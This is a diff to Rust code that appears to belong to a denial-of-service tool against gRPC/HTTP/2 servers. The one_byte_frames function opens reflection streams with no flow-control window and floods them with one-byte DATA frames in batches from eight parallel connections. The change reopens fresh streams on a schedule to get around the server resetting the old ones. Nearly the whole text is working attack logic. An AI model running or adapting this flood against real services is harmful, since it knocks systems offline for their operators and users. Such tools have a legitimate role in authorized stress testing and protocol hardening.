@@ -96,23 +96,34 @@ pub async fn zero_window(attack: &Arc<Attack>) -> anyhow::Result<()> {
     .await
 }
 
-/// Reflection streams whose answers have no room, and which then get frames of one byte.
+/// Reflection streams whose answers have no room, and which then get frames of one byte: always the newest few. New ones
+/// follow, because the service resets the old ones.
 pub async fn one_byte_frames(attack: &Arc<Attack>) -> anyhow::Result<()> {
+    /// How many frames of one byte a batch has, and how many batches lie between two new streams.
     const BATCH: usize = 1000;
+    const BATCHES: usize = 20;
     attack.begin().await?;
     swarm(attack, 8, Some(PAUSE), |attack, _| async move {
+        let open = |stream| {
+            let lists = frames::frame(DATA, 0, stream, &frames::message(&LIST_SERVICES)).repeat(6);
+            [frames::header_frames(stream, 0, &frames::call(REFLECTION, None)), lists].concat()
+        };
         let mut connection = connect(&attack, attack.grpc, 0, None).await?;
-        let mut begin = frames::greeting_without_window();
-        for call in 0..OPEN_CALLS {
-            let stream = frames::stream(call);
-            begin.extend(frames::header_frames(stream, 0, &frames::call(REFLECTION, None)));
-            begin.extend(frames::frame(DATA, 0, stream, &frames::message(&LIST_SERVICES)).repeat(6));
-        }
+        let begin = (0..OPEN_CALLS).flat_map(|call| open(frames::stream(call)));
+        let begin: Vec<u8> = frames::greeting_without_window().into_iter().chain(begin).collect();
         connection.write.send(&begin).await?;
-        let mut call = 0;
+        let (mut calls, mut batches) = (OPEN_CALLS, 0);
         let next = move || {
-            call = (call + 1) % OPEN_CALLS;
-            frames::frame(DATA, 0, frames::stream(call), &[0]).repeat(BATCH)
+            let mut batch = Vec::new();
+            batches += 1;
+            if batches % BATCHES == 0 {
+                batch.extend(open(frames::stream(calls)));
+                calls += 1;
+            }
+            for call in calls - OPEN_CALLS..calls {
+                batch.extend(frames::frame(DATA, 0, frames::stream(call), &[0]).repeat(BATCH / OPEN_CALLS));
+            }
+            batch
         };
         io::Result::Ok(play_and_read(&attack, connection, async move |write| write.flood(next, BATCH).await).await)
     })
